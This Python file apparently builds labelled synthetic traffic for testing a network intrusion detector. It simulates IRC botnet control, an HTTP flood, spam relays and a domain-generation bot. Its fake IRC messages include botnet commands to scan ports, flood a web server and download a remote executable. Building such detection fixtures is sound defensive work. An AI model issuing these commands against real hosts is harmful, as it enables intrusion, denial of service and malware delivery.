# SPDX-License-Identifier: GPL-3.0-or-later
"""The same bots with less to see them by: no channel, no key, a person's name, one long connection, an order that is
obeyed without a word; and the one who gives the orders."""

from scenarios import Label, people, scenario, talk
from scenarios.bots_irc import scan
from scenarios.bots_mail import REFUSALS, exchanger, spam_run
from scenarios.irc import Client
from scenarios.world import ns


@scenario("irc-quiet", group="bot", same=("scan",))
def irc_quiet(world):
    """A person's name, IRC's own port, no key, the order as a private message, and no answer: only the scan shows
    obedience."""
    hosts = people.hosts(9)
    people.office(world, hosts, people.minutes(20))
    bot = hosts[3]
    c = Client(world, people.at(world, 120), bot, world.outside(), "martin84", real="Martin")
    c.welcome(users=420, channels=30).join("#linux", members=["anna", "otto_", "bert", "tux2"])
    c.tcp.wait(60)
    c.hear("otto_", "martin84", ".scan 198.18.0.0 198.18.255.255 2967 100 -s")
    scan(world, c.now + ns(2), bot, 2967, 800, 6,
         pick=lambda: f"198.18.{world.random.randrange(256)}.{world.random.randrange(1, 255)}")
    c.idle(c.now + ns(300))
    return {bot: Label("irc_control", "scan", kinds=("irc_control.executed",))}


@scenario("irc-flood-http", group="bot")
def irc_flood_http(world):
    """Ordered to ask a web server for one page eighty times a second for half a minute."""
    hosts = people.hosts(8)
    people.office(world, hosts, people.minutes(10))
    bot, victim = hosts[5], "198.51.100.44"
    c = Client(world, people.at(world, 60), bot, world.outside(), "{iNF-FRA-XP-301877}", port=4567)
    c.welcome().join("#!h!", "hh", operator="@own")
    c.tcp.wait(20)
    c.hear("own", "#!h!", f"!http.flood http://{victim}/index.php?q=1 2400 80 -s")
    time = c.now + ns(0.5)
    for n in range(80 * 30):
        talk.fetch(world, time, bot, victim, "/index.php?q=1", b"<p>busy</p>", address=victim, agent="Mozilla/4.0")
        time += ns(1 / 80)
    c.idle(time + ns(60))
    return {bot: Label("irc_control", "flood", kinds=("flood.http",))}


@scenario("irc-controller", group="bot")
def irc_controller(world):
    """The host gives the orders, over a server outside, and a dozen obey in the channel. It does nothing else."""
    hosts = people.hosts(7)
    people.office(world, hosts, people.minutes(15))
    boss = hosts[2]
    c = Client(world, people.at(world, 60), boss, world.outside(), "rix", port=6668, real="rix")
    c.welcome().join("#b0ts", "k", members=[f"USA|{n:05}" for n in range(70311, 70323)], operator="@rix")
    for order, answer in ((".login s3cret", "[MAIN]: Password accepted."),
                          (".advscan lsass 100 5 0 -r -s",
                           "[SCAN]: Random Port Scan started on 198.18.x.x:445 with a delay of 5 seconds."),
                          (".download http://198.51.100.4/u.exe c:\\u.exe 1 -s",
                           "[DOWNLOAD]: Downloading URL: http://198.51.100.4/u.exe.")):
        c.tcp.wait(30)
        c.say("#b0ts", order)
        for n in range(70311, 70317):
            c.tcp.wait(0.3)
            c.hear(f"USA|{n}", "#b0ts", answer)
    c.idle(c.now + ns(200))
    return {boss: Label("irc_control", kinds=("irc_control.commanding",))}


@scenario("spam-proxy-long", group="bot")
def spam_proxy_long(world):
    """Nobody saw the infection. All spam arrives on one connection to a random port that lasts, several recipients to
    an order, and leaves as a mail to each server."""
    hosts = people.hosts(9)
    people.office(world, hosts, people.minutes(25))
    bot, listen = hosts[6], 42_317
    inbound = world.tcp(people.at(world, 120), world.outside(), bot, listen)
    inbound.up(b"\x02hello").down(b"\x02ready")
    for number in range(240):
        size = world.random.randrange(2000, 7000)
        inbound.wait(world.random.uniform(1.5, 4)).up(b"\x01" + world.random.randbytes(40) + b"s" * size)
        site = people.domain(world.random)
        at, address = exchanger(world, inbound.now + ns(0.1), bot, site)
        talk.smtp(world, at, bot, address, helo=f"dsl{number % 11}.{site}",
                  sender=f"{people.mail_name(world.random)}@{site}",
                  recipients=(f"{people.mail_name(world.random)}@{site}",), size=size,
                  reject=REFUSALS[number % 3] if number % 4 == 0 else "")
    inbound.close()
    return {bot: Label("spam_proxy", "mass_mail", kinds=("spam_proxy.volume",))}


@scenario("spam-relay", group="bot")
def spam_relay(world):
    """The proxy speaks SMTP itself on a port of its own: an outsider names recipients there, and the host brings them
    mail."""
    hosts = people.hosts(8)
    people.office(world, hosts, people.minutes(15))
    bot, listen = hosts[1], 18_080
    time, master = people.at(world, 100), world.outside()
    for number in range(40):
        sites = [people.domain(world.random) for _ in range(3)]
        names = [f"{people.mail_name(world.random)}@{site}" for site in sites]
        time = talk.smtp(world, time, master, bot, port=listen, helo="x", sender=f"offer@{sites[0]}",
                         recipients=tuple(names), size=2500,
                         banner="relay")
        for name, site in zip(names, sites):
            at, address = exchanger(world, time + ns(0.4), bot, site)
            talk.smtp(world, at, bot, address, helo=f"m{number % 6}.{sites[0]}", sender=f"offer@{sites[0]}",
                      recipients=(name,), size=2500,
                      reject=REFUSALS[number % 3] if number % 3 == 0 else "")
        time += ns(12)
    return {bot: Label("spam_proxy", "mass_mail", kinds=("spam_proxy.relayed",))}


@scenario("dga-quick", group="bot")
def dga_quick(world):
    """Few generated names, since the tenth is already the right one; the program comes from there under an honest name;
    then spam."""
    from scenarios.bots_other import generated, try_names
    hosts = people.hosts(8)
    people.office(world, hosts, people.minutes(30), every=150)
    bot = hosts[4]
    time = try_names(world, people.at(world, 150), bot, 12, 0.8)
    name = generated(world.random)
    time = talk.fetch(world, time, bot, name, "/update.exe", talk.program(world.random, 60_000), "application/octet-stream")
    spam_run(world, time + ns(120), bot, 400, 0.35, refused=0.25)
    return {bot: Label("dns_anomaly", "mass_mail", kinds=("dns_anomaly.generated",))}
